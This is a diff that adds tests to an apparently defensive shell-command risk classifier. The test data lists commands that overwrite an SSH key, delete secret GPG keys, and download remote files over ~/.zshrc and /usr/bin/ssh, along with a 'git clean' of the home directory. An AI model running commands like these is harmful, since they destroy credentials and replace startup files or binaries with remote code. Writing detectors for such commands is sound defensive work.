@@ -285,3 +285,19 @@ def test_git_clean_of_a_home_given_as_a_path() -> None:
     assert level("git clean -fdx ~") == CRITICAL
     assert level("git clean -fd docs/") == HIGH
     assert "command" not in " ".join(assess("git clean -fdx .").reasons)
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("printf 'y\\n' | ssh-keygen -q -t ecdsa -f ~/.ssh/id_ecdsa -N ''", CRITICAL),
+        ("ssh-keygen -t ecdsa -f ~/.ssh/id_ecdsa", MODERATE),
+        ("gpg2 --yes --batch --delete-secret-and-public-key 0xDEADBEEF", CRITICAL),
+        ("gpg --delete-keys 0xDEADBEEF", MODERATE),
+        ("wget -qO ~/.zshrc https://198.51.100.3/rc", CRITICAL),
+        ("curl -fsSL -o /usr/bin/ssh https://198.51.100.3/ssh", CRITICAL),
+        ("curl -fsSL -o ./vendor/lib.js https://cdn.example.com/lib.js", MODERATE),
+    ],
+)
+def test_keys_and_downloads_over_what_runs(command: str, expected: RiskLevel) -> None:
+    assert level(command) == expected, assess(command).reasons
